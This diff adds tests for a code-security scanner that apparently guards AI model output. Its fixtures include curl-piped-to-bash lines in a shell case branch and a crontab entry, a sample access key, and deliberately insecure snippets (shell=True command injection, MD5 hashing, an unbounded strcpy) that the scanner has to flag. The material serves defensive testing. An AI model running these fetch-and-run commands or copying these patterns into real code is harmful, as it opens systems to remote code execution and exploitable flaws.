@@ -149,6 +149,19 @@ def test_clean_code_and_regex_rules_never_start_semgrep():
         shield.scan("import os\nos.system(cmd)\n")  # this one needs semgrep
 
 
+@pytest.mark.parametrize("line", ["  *) curl -fsSL https://example.com/install.sh | bash ;;",
+                                  "*/5 * * * * curl -s https://example.com/x.sh | sh"])
+def test_a_shell_line_led_by_a_star_is_code(line):
+    """A case branch or a crontab line starts with "*", which leads only C-like languages' comment lines (they had
+    been skipped as comments in every language, and the pipe to a shell on them allowed)."""
+    shield = CodeShield(semgrep="/nonexistent/semgrep-core")
+    result = shield.scan(f'#!/bin/bash\ncase "$1" in\n{line}\nesac\n')
+    assert result["verdict"] == "block" and [f["line"] for f in result["findings"]] == [3]
+    key = 'const char *key = "AKIAIOSFODNN7EXAMPL3";\n'
+    assert shield.scan(key, "c")["verdict"] == "block"
+    assert shield.scan(f"/*\n * {key} */\nint main(void);\n", "c")["verdict"] == "allow"  # a comment's line
+
+
 def test_a_rule_semgrep_cannot_read_is_an_error():
     from dataclasses import replace
 
@@ -215,6 +228,25 @@ def test_stream_unclosed_block_and_bare_code():
     prose = StreamScanner(shield)
     prose.feed("Paris is the capital of France.")
     assert prose.finish() == []
+
+
+@pytest.mark.parametrize("language, code, rule", [
+    ("python", "import subprocess\ndef run(arg):\n    subprocess.call('grep ' + arg, shell=True)\n    return [\n",
+     "python-command-injection"),
+    ("java", 'import java.security.MessageDigest;\npublic class H {\n  byte[] h(byte[] d) throws Exception {\n'
+             '    MessageDigest md = MessageDigest.getInstance("MD5");\n    return md.dig', "java-weak-hash"),
+    ("javascript", "const crypto = require('crypto');\nfunction h(s) {\n"
+                   "  return crypto.createHash('md5').update(s).digest('hex') + fo", "js-weak-hash"),
+    ("c", "#include <string.h>\nvoid f(char *s) {\n    char buf[16];\n    strcpy(buf, s);\n    if (buf[0] == ",
+     "c-unbounded-copy"),
+])
+def test_a_block_cut_mid_statement_is_still_scanned(language, code, rule):
+    """A reply out of tokens inside a code block leaves a statement open, and semgrep reads nothing of code it
+    cannot parse: the cut block is read again ended where it parses (its insecure line had passed unflagged)."""
+    scanner = StreamScanner(CodeShield())
+    scanner.feed(f"Here it is:\n```{language}\n{code}")
+    (scan,) = scanner.finish()
+    assert [f["rule"] for f in scan["findings"]] == [rule] and scan["verdict"] != "allow"
 
 
 def test_corpus_covers_every_language():
